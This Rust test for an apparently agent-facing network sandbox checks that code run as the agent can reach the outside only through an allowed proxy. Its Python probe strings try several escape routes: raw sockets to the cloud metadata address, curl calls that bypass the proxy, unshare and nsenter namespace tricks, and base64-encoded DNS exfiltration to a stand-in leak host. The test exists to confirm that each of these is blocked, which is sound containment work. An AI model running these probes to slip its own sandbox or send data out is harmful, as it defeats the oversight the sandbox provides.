//! Row 25: past the proxy. Raw TCP, UDP, QUIC's port, ICMP, IPv6, DNS as a channel, and a reverse
//! lookup that claims an allowed name.

use ringfence_tests::{Project, TestNet, each_wall};
use serde_json::json;

use crate::bundles::hosts;

const PROBES: &str = r##"
for name in list(os.environ):
    if name.lower().endswith("_proxy") and name != "HTTPS_PROXY":
        del os.environ[name]
raw_tcp("tcp 80", "11.22.33.44", 80)
raw_tcp("tcp 443", "11.22.33.44", 443)
raw_tcp("tcp other", "11.22.33.45", 80)
raw_tcp("tcp private", "10.66.0.44", 80)
raw_tcp("tcp metadata", "169.254.169.254", 80)
raw_tcp("tcp six", "2a00:1234::44", 80)
raw_udp("udp 443", "11.22.33.44", 443)
raw_udp("udp six", "2a00:1234::44", 443)
raw_udp("dns", "11.22.33.53", 53, dns_query("leak-by-dns.example.com"))
def lookup():
    return socket.getaddrinfo("leak-by-libc.example.com", 443)[0][4][0]
def resolves():
    try: return lookup()
    except socket.gaierror as e: raise OSError(errno.EHOSTUNREACH, str(e))
attempt("libc", resolves)
"##;

const INSIDE: &str = r##"
import subprocess
attempt("icmp datagram", lambda: (socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\0\xf7\xff\0\0\0\0", ("11.22.33.44", 0)), True)[1])
attempt("raw socket", lambda: (socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), True)[1])
attempt("packet socket", lambda: (socket.socket(socket.AF_PACKET, socket.SOCK_RAW), True)[1])
attempt("netlink", lambda: (socket.socket(socket.AF_NETLINK, socket.SOCK_RAW), True)[1])
attempt("vsock", lambda: (socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 80)), True)[1])
def sh(case, line):
    done = subprocess.run(line, shell=True, capture_output=True, text=True, timeout=30)
    say(case, done="host" in done.stdout, value=done.stdout + done.stderr)
sh("curl without the proxy", "env -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY curl -sk -m 5 --noproxy '*' https://11.22.33.44/")
sh("curl to a name", "curl -sk -m 5 --noproxy '*' --resolve allowed.example.com:443:11.22.33.44 https://allowed.example.com/")
sh("namespace", "unshare -Urn sh -c 'ip link set lo up; curl -sk -m 5 --noproxy \"*\" https://11.22.33.44/'")
sh("nsenter", "nsenter -t 1 -n curl -sk -m 5 --noproxy '*' https://11.22.33.44/")
routes = read("/proc/net/route").strip().splitlines()[1:]
say("routes", done=len(routes) > 0, value=len(routes))
interfaces = [l.split(":")[0].strip() for l in read("/proc/net/dev").splitlines()[2:]]
say("interfaces", done=interfaces != ["lo"], value=interfaces)
# The reverse record of 11.22.33.45 claims an allowed name; an address is judged as an address.
try_connect("claimed", "11.22.33.45:443")
# A refused name is a message if it is looked up.
for part in ["c2VjcmV0", "ZGF0YQ"]:
    try_connect("channel " + part, part + ".leak-by-proxy.example.com:443")
https("proxy control", "allowed.example.com:443")
"##;

#[test]
fn there_is_no_way_out_but_the_proxy() {
    each_wall(&[25, 27], |who, wall| {
        let zone = [
            ("allowed.example.com", json!([TestNet::PUBLIC])),
            ("leak-by-libc.example.com", json!([TestNet::PUBLIC])),
            ("45.33.22.11.in-addr.arpa", json!(["allowed.example.com"])),
        ];
        let net = TestNet::new(who, &zone);
        let mut project = Project::new(who);
        let _engine = wall.around(&mut project, &net);
        project.manifest(&hosts(&["allowed.example.com"]));
        // Controls: every probe works on the supervisor's side.
        let outside = project.outside(PROBES);
        for case in [
            "tcp 80",
            "tcp other",
            "tcp private",
            "tcp metadata",
            "tcp six",
            "udp 443",
            "udp six",
            "dns",
            "libc",
        ] {
            outside.happened(case);
        }
        net.saw("dns", "leak-by-dns.example.com");
        net.saw("dns", "leak-by-libc.example.com");
        let reverse = project.shell(&["getent", "hosts", "11.22.33.45"]).ok();
        assert!(reverse.stdout.contains("allowed.example.com"), "{}", reverse.stdout);
        project.lock();
        project.trust();
        let before = net.sightings().len();

        let cases = project.agent(&format!("{PROBES}{INSIDE}"));
        for case in cases.names() {
            if case == "proxy control" {
                assert!(cases.body(case).contains("tls host"), "{}", cases.get(case));
            } else if case == "claimed" || case.starts_with("channel") {
                assert!(cases.status(case) >= 400, "{case}: {}", cases.get(case));
            } else if wall.is_container() && matches!(case, "routes" | "interfaces") {
                // It has one, and the sidecar is the one peer there.
                cases.happened(case);
            } else {
                cases.refused(case);
            }
        }
        assert!(cases.names().count() >= 24);
        for seen in &net.sightings()[before..] {
            assert_eq!(seen.name, "allowed.example.com", "the public side saw {seen:?}");
        }
        // What the backend tried itself is in the record, its control too.
        let events = project.events();
        let probe = events.has("sandbox_probed", &[("principal", "agent"), ("tight", "true")]);
        for result in ["blocked", "control"] {
            let attempts = probe["attempts"].as_array().expect("attempts");
            assert!(attempts.iter().any(|a| a["result"] == result && a["ok"] == true), "{result}");
        }
    });
}
